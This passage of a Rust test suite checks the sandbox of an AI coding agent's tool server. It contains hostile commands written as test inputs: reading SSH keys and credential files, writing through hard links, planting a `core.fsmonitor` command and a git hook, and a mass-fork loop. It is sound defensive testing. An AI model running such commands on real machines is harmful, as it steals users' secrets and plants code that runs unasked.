    let session = started["session_id"].as_str().unwrap().to_string();
    let results = run_all(
        &mut rig,
        &session,
        &[
            ("chmod", format!("chmod 666 {}", credentials.display())),
            (
                "write",
                format!("echo planted >> {}", credentials.display()),
            ),
            ("read", format!("cat {}", credentials.display())),
            (
                "plant",
                format!(
                    "mkdir -p {0}/bin && echo ok > {0}/bin/tool && echo ok",
                    cargo.display()
                ),
            ),
        ],
    )
    .await;
    for id in ["chmod", "write"] {
        let (_, success, output) = result(&results, id);
        assert!(!success, "{id}: {output}");
    }
    let (_, _, output) = result(&results, "read");
    assert!(!output.contains("cargo-secret"), "{output}");
    assert_eq!(mode(&credentials), 0o600);
    assert!(std::fs::read_to_string(&credentials)
        .unwrap()
        .contains("cargo-secret"));
    // The root is writable as configured (which is what the warning is for).
    assert!(result(&results, "plant").1);
}

/// Hard links: a file of the workspace that is a hard link to a file
/// outside the writable roots (pnpm's store) cannot be written through,
/// by a sandboxed command or by the file tools (which break the link).
#[tokio::test]
async fn a_hard_link_to_a_file_outside_is_not_written_through() {
    let Some((place, mut rig, session)) =
        start("auto_approve = [\"read\", \"write\", \"sandboxed\"]").await
    else {
        return;
    };
    let ws = rig.home.workspace();
    let store = place.outside.join("store-file.js");
    std::fs::write(&store, "original\n").unwrap();
    std::fs::create_dir_all(ws.join("node_modules/x")).unwrap();
    std::fs::hard_link(&store, ws.join("node_modules/x/index.js")).unwrap();
    std::fs::hard_link(&store, ws.join("second.js")).unwrap();
    // A new session: the links exist before its first command.
    let session2 = rig.session().await;
    let _ = session;
    let results = run_all(
        &mut rig,
        &session2,
        &[
            ("append", "echo planted >> node_modules/x/index.js".into()),
            ("truncate", ": > second.js".into()),
        ],
    )
    .await;
    for id in ["append", "truncate"] {
        let (_, success, output) = result(&results, id);
        assert!(!success, "{id}: {output}");
    }
    assert_eq!(std::fs::read_to_string(&store).unwrap(), "original\n");
    rig.mock.push(Reply::tool_calls(&[(
        "w",
        "write_file",
        json!({"path": "second.js", "content": "tool wrote\n"}),
    )]));
    rig.mock.push(Reply::text(["ok"]));
    rig.turn(&session2, "write").await;
    assert_eq!(
        std::fs::read_to_string(ws.join("second.js")).unwrap(),
        "tool wrote\n"
    );
    assert_eq!(std::fs::read_to_string(&store).unwrap(), "original\n");
}

/// The pids cgroup v1 hierarchy's mount point, where this machine has one.
fn pids_v1_root() -> Option<PathBuf> {
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").ok()?;
    mounts.lines().find_map(|line| {
        let (left, right) = line.split_once(" - ")?;
        let mut right = right.split_whitespace();
        let (fstype, _, options) = (right.next()?, right.next()?, right.next()?);
        let point = left.split_whitespace().nth(4)?;
        (fstype == "cgroup" && options.split(',').any(|o| o == "pids"))
            .then(|| PathBuf::from(point))
    })
}

/// m05: as root, every sandboxed command and hook of a session joins one
/// pids cgroup made beneath the server's own, so the server's limit holds
/// for its tools (a server bound to 120 tasks cannot have 300 below it)
/// and a repository's many hooks share their session's bound.
#[tokio::test]
async fn tools_and_hooks_stay_in_the_servers_cgroup_under_its_limit() {
    // SAFETY: geteuid cannot fail.
    if !enforced() || unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: needs root and the sandbox");
        return;
    }
    let Some(root) = pids_v1_root() else {
        eprintln!("skipped: no cgroup v1 pids hierarchy here");
        return;
    };
    let ours = root.join(format!("scv-test-{}-{}", std::process::id(), rand_suffix()));
    std::fs::create_dir(&ours).unwrap();
    std::fs::write(ours.join("pids.max"), "120").unwrap();
    let place = Place::new();
    let mock = MockProvider::start().await;
    let home = TestHome::new_in(
        place.outside.parent().unwrap(),
        &mock.base_url(),
        AUTO_SANDBOXED,
    );
    std::fs::write(
        home.path().join("hooks.json"),
        json!({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command",
            "command": "grep pids /proc/self/cgroup > \"$CLAUDE_PROJECT_DIR/hook-cgroup\""}]}]}})
        .to_string(),
    )
    .unwrap();
    let mut command = tokio::process::Command::new(BIN);
    let procs = std::ffi::CString::new(ours.join("tasks").display().to_string()).unwrap();
    // SAFETY: open/write/close only, between fork and exec.
    unsafe {
        command.pre_exec(move || {
            let fd = libc::open(procs.as_ptr(), libc::O_WRONLY);
            if fd >= 0 {
                libc::write(fd, b"0".as_ptr().cast(), 1);
                libc::close(fd);
            }
            Ok(())
        });
    }
    let user_home = place.user_home.display().to_string();
    let mut server = TestServer::spawn_command(command, home.path(), &[("HOME", &user_home)]);
    server.initialize().await;
    let mut rig = Rig { mock, home, server };
    let session = rig.session().await;
    let results = run_all(
        &mut rig,
        &session,
        &[(
            "fork",
            format!(
                "grep pids /proc/self/cgroup > bash-cgroup; {}",
                python("import os, time\nn = 0\nfor i in range(300):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n    if pid == 0:\n        time.sleep(30)\n        os._exit(0)\n    n += 1\nprint(n)")
            ),
        )],
    )
    .await;
    let (_, _, output) = result(&results, "fork");
    let started: usize = output.lines().next().unwrap().trim().parse().unwrap_or(300);
    assert!(
        started < 120,
        "{started} processes below a server bound to 120: {output}"
    );
    let ws = rig.home.workspace();
    let bash = std::fs::read_to_string(ws.join("bash-cgroup")).unwrap();
    let hook = std::fs::read_to_string(ws.join("hook-cgroup")).unwrap();
    let name = ours.file_name().unwrap().to_str().unwrap();
    assert!(
        bash.contains(name),
        "the command left the server's cgroup: {bash}"
    );
    assert_eq!(
        bash, hook,
        "the hook and the command share the session's cgroup"
    );
    drop(rig);
    // Everything below is gone with the server; the test's cgroup goes too.
    for _ in 0..200 {
        if std::fs::remove_dir(&ours).is_ok() {
            break;
        }
        for sub in std::fs::read_dir(&ours).into_iter().flatten().flatten() {
            let _ = std::fs::remove_dir(sub.path());
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

/// F1, F2 of the fourth pass: a `.git` file naming the home (planted, or
/// shipped in a downloaded archive) shows nothing of it, nor does a home
/// that is itself a repository (dotfiles) to a workspace below it.
#[tokio::test]
async fn a_git_pointer_or_a_dotfiles_repository_shows_nothing_of_the_home() {
    if !enforced() {
        return;
    }
    let place = Place::new();
    let mut rig = rig_in(&place, AUTO_SANDBOXED, &[]).await;
    let ws = rig.home.workspace();
    std::fs::write(
        ws.join(".git"),
        format!("gitdir: {}\n", place.user_home.display()),
    )
    .unwrap();
    let session = rig.session().await;
    let results = run_all(
        &mut rig,
        &session,
        &[(
            "key",
            format!("cat {}/.ssh/id_ed25519", place.user_home.display()),
        )],
    )
    .await;
    let (_, success, output) = result(&results, "key");
    assert!(!success && !output.contains("secret material"), "{output}");
    // The home a repository, the workspace below it.
    assert!(git(&place.user_home, &["init", "-q"]).status.success());
    let below = place.user_home.join("project");
    std::fs::create_dir_all(&below).unwrap();
    rig.server
        .send(json!({"type":"session.start","request_id":"b","cwd":below}))
        .await;
    let started = rig.server.expect("session.started").await;
    rig.server.expect("queue.snapshot").await;
    let session = started["session_id"].as_str().unwrap().to_string();
    let results = run_all(
        &mut rig,
        &session,
        &[
            ("key", "cat ~/.ssh/id_ed25519".into()),
            (
                "history",
                "git -C ~ log --all --oneline 2>&1 | head -3".into(),
            ),
        ],
    )
    .await;
    for id in ["key", "history"] {
        let (_, _, output) = result(&results, id);
        assert!(!output.contains("secret material"), "{id}: {output}");
    }
    let (_, success, _) = result(&results, "key");
    assert!(!success);
}

/// F3, F4 of the fourth pass: SCV's own file tools write neither a
/// repository's `.git` (a planted `core.fsmonitor` would run at the user's
/// next `git status`) nor `$SCV_HOME` when it lies inside the workspace,
/// however the path is put (a link inside the workspace included).
#[tokio::test]
async fn the_file_tools_write_no_git_directory_and_no_scv_home() {
    let mut rig = Rig::new("auto_approve = [\"read\", \"write\"]").await;
    let ws = rig.home.workspace();
    assert!(git(&ws, &["init", "-q"]).status.success());
    // Relative, so that it resolves beneath the workspace and only the
    // guard on `.git` stands in the way.
    std::os::unix::fs::symlink(".git", ws.join("innocent")).unwrap();
    let config_before = std::fs::read_to_string(ws.join(".git/config")).unwrap();
    let calls = [
        (
            "edit",
            "edit_file",
            json!({"path": ".git/config", "old_string": "[core]", "new_string": "[core]\n\tfsmonitor = touch /tmp/pwned"}),
        ),
        (
            "write",
            "write_file",
            json!({"path": ".git/hooks/post-commit", "content": "#!/bin/sh\ntouch /tmp/pwned\n"}),
        ),
        (
            "link",
            "write_file",
            json!({"path": "innocent/config", "content": "[core]\n\tfsmonitor = x\n"}),
        ),
        (
            "link-edit",
            "edit_file",
            json!({"path": "innocent/config", "old_string": "[core]", "new_string": "[core]\n\tfsmonitor = x"}),
        ),
    ];
    for (id, name, arguments) in calls {
        rig.mock.push(Reply::tool_calls(&[(id, name, arguments)]));
        rig.mock.push(Reply::text(["ok"]));
        let session = rig.session().await;
        let events = rig.turn(&session, "go").await;
        let (_, success, output) = &completed(&events)[0];
        assert!(!success && output.contains(".git"), "{id}: {output}");
    }
    assert_eq!(
        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
        config_before
    );
    assert!(!ws.join(".git/hooks/post-commit").exists());
}

/// F5 of the fourth pass: a credential file made on the host after the
/// session's first command (a `cargo login` in the user's terminal) is
/// masked from the next command on.
#[tokio::test]
async fn a_credential_file_made_mid_session_is_masked_from_the_next_command() {
    let Some((place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    std::fs::create_dir_all(place.user_home.join(".cargo")).unwrap();
    let first = run_all(&mut rig, &session, &[("ls", "ls ~/.cargo".into())]).await;
    assert!(result(&first, "ls").1);
    std::fs::write(
        place.user_home.join(".cargo/credentials.toml"),
        "[registry]\ntoken = \"made-mid-session\"\n",
    )
    .unwrap();
    let second = run_all(
        &mut rig,
        &session,
        &[("read", "cat ~/.cargo/credentials.toml".into())],
    )
    .await;
    let (_, _, output) = result(&second, "read");
    assert!(!output.contains("made-mid-session"), "{output}");
}

/// F6 of the fourth pass: what the host keeps from other users under
/// `/etc` is shown empty, whatever its name (a command run by root keeps
/// root's uid).
#[tokio::test]
async fn what_the_host_keeps_from_other_users_is_not_shown() {
    use std::os::unix::fs::PermissionsExt;
    // SAFETY: geteuid cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        return;
    }
    let Some((_place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    let secret = PathBuf::from(format!("/etc/scv-test-auth-{}.conf", std::process::id()));
    std::fs::write(&secret, "machine corp login u password ETC-SECRET\n").unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let results = run_all(
        &mut rig,
        &session,
        &[("read", format!("cat {}; echo done", secret.display()))],
    )
    .await;
    let _ = std::fs::remove_file(&secret);
    let (_, _, output) = result(&results, "read");
    assert!(
        !output.contains("ETC-SECRET") && output.contains("done"),
        "{output}"
    );
}

/// F12 of the fourth pass: `clone3` fails (ENOSYS), so no child is placed
/// in another cgroup; programs fall back to `clone` and run as usual.
#[tokio::test]
async fn clone3_is_not_there_and_programs_still_start() {
    let Some((_place, mut rig, session)) = start(AUTO_SANDBOXED).await else {
        return;
    };
    let results = run_all(
        &mut rig,
        &session,
        &[
            (
                "clone3",
                python("import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); r = libc.syscall(435, 0, 0); print(r, os.strerror(ctypes.get_errno()))"),
            ),
            ("spawn", python("import subprocess; print(subprocess.run(['true']).returncode)")),
        ],
    )
    .await;
    let (_, _, output) = result(&results, "clone3");
    assert!(output.contains("Function not implemented"), "{output}");
    let (_, success, output) = result(&results, "spawn");
    assert!(*success && output.starts_with('0'), "{output}");
}
